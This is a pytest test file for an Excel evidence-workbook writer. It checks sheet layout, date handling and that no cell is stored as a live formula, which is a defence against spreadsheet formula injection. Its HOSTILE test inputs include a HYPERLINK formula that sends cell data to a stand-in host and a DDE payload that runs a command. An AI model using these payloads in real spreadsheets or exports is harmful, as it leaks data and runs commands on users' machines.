"""workbook.xlsx: a sheet per population and for the exceptions, frozen header, autofilter, real
dates, and not one formula, whatever the identity data says (CWE-1236). Checked by reopening
every workbook with openpyxl."""

from __future__ import annotations

import csv
import datetime as dt

import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook

from evidence_factory import FORMULA_NAME, FORMULA_PERSON, make_evidence
from reports import pack as pack_module
from reports.pack import write_pack
from reports.workbook import sheet_title, write_workbook

RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A", "#DIV/0!",
    "bell\x07and\x1bescape", "x" * 40_000, " leading and trailing ",
]


@pytest.fixture(scope="module")
def pack(tmp_path_factory):
    root = tmp_path_factory.mktemp("wbstore")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(pack_module, "render_pdf", lambda html: b"%PDF-1.7 stub\n")
        return write_pack(make_evidence(store_root=root), root)


@pytest.fixture(scope="module")
def book(pack):
    return openpyxl.load_workbook(pack / "workbook.xlsx")


def all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_no_cell_is_a_formula(book):
    cells = list(all_cells(book))
    assert len(cells) > 500
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(RISKY_STARTS)]
    values = {c.value for c in risky}
    assert FORMULA_NAME in values and FORMULA_PERSON in values
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_control_openpyxl_would_store_a_formula():
    """What the test above guards against: openpyxl itself makes '=...' a live formula."""
    ws = Workbook().active
    ws["A1"] = FORMULA_NAME
    assert ws["A1"].data_type == "f"


def test_sheets_headers_filters_and_widths(book, pack):
    assert book.sheetnames == ["About", "exceptions", "samples", "deprovisioning-timely",
                               "no-access-after-termination", "orphaned-accounts",
                               "orphaned-accounts-excluded", "terminations"]
    for ws in book.worksheets[1:]:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert all(ws.cell(1, c).font.b for c in range(1, ws.max_column + 1))
        widths = [ws.column_dimensions[ws.cell(1, c).column_letter].width
                  for c in range(1, ws.max_column + 1)]
        assert all(8 <= w <= 60 for w in widths), (ws.title, widths)
    # every population sheet holds its CSV, row for row
    for name in ("deprovisioning-timely", "orphaned-accounts", "terminations"):
        with open(pack / "populations" / f"{name}.csv", newline="") as fh:
            rows = list(csv.reader(fh))
        ws = book[name]
        assert ws.max_row == len(rows)
        assert [c.value.removesuffix(" (UTC)") for c in ws[1]] == rows[0]
    about = {r[0].value: r[1].value for r in book["About"].iter_rows()}
    assert "UTC" in about["Times"]
    assert about["Sheet 'orphaned-accounts'"].endswith(": 40 rows")


def test_times_are_real_dates(book):
    ws = book["terminations"]
    header = [c.value for c in ws[1]]
    eff = header.index("termination_effective (UTC)")
    on = header.index("terminated_on")
    first = [c for c in ws[2]]
    assert first[eff].value == dt.datetime(2026, 1, 11, 5, 0)       # UTC, without a zone
    assert first[eff].number_format == "yyyy-mm-dd hh:mm:ss"
    assert first[on].value == dt.datetime(2026, 1, 10) and first[on].number_format == "yyyy-mm-dd"
    exc = book["exceptions"]
    header = [c.value for c in exc[1]]
    assert "terminated_at (UTC)" in header and "hours_over_sla" in header
    assert exc.cell(2, header.index("hours_over_sla") + 1).value == 28.5     # a number


def test_hostile_values_stay_text(tmp_path):
    df = pd.DataFrame({
        "text": HOSTILE,
        "string_dtype": pd.array(HOSTILE, dtype="string"),
        "n": range(len(HOSTILE)),
        "flag": [i % 2 == 0 for i in range(len(HOSTILE))],
        "at": pd.Timestamp("2026-03-01T12:30:00Z") + pd.to_timedelta(range(len(HOSTILE)), "h"),
        "mixed": [{"a": "=1"}, ["=x", "y"], None, 1.5, float("nan"), dt.date(2026, 1, 2),
                  pd.Timestamp("2026-01-02T03:04:05Z"), "=2", True, 7, "-", "a\rb"],
    })
    path = tmp_path / "w.xlsx"
    titles = {"a" * 40: "a" * 31, "x[1]:y": "x_1__y"}
    write_workbook(path, title="=t", about=[("=about", "=value")],
                   populations={"hostile": ("hostile", df)},
                   exception_columns=["=col", "b"], exception_rows=[["=1+1", 2]],
                   sample_columns=["c"], sample_rows=[["@x"]])
    wb = openpyxl.load_workbook(path)
    cells = list(all_cells(wb))
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    ws = wb["hostile"]
    text = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
    assert text[:9] == HOSTILE[:9]
    assert text[9] == "bell\ufffdand\ufffdescape"             # XML cannot carry them
    assert len(text[10]) <= 32_767 and text[10].endswith("[truncated]")
    assert text[11] == " leading and trailing "
    assert [ws.cell(r, 2).value for r in range(2, 11)] == HOSTILE[:9]
    assert ws.cell(2, 3).value == 0 and ws.cell(2, 4).value is True
    assert ws.cell(2, 5).value == dt.datetime(2026, 3, 1, 12, 30)
    assert ws.cell(1, 5).value == "at (UTC)" and ws.cell(1, 6).value == "mixed (UTC)"
    mixed = [ws.cell(r, 6).value for r in range(2, 14)]
    assert mixed[0] == '{"a": "=1"}' and mixed[1] == "=x; y" and mixed[2] is None
    assert mixed[3] == 1.5 and mixed[4] is None and mixed[5] == dt.datetime(2026, 1, 2)
    assert mixed[6] == dt.datetime(2026, 1, 2, 3, 4, 5) and mixed[7] == "=2"
    assert mixed[11] == "a\rb"
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(RISKY_STARTS + ("#",)):
            assert c.data_type == "s" and c.quotePrefix, c.coordinate
    assert {sheet_title(k, set()) for k in titles} == set(titles.values())


def test_sheet_titles_are_unique_and_valid():
    taken = {"about", "exceptions", "samples"}
    names = [sheet_title(n, taken) for n in ("exceptions", "a/b", "x" * 40, "x" * 40, "'q'")]
    assert names == ["exceptions (2)", "a_b", "x" * 31, "x" * 27 + " (2)", "q"]
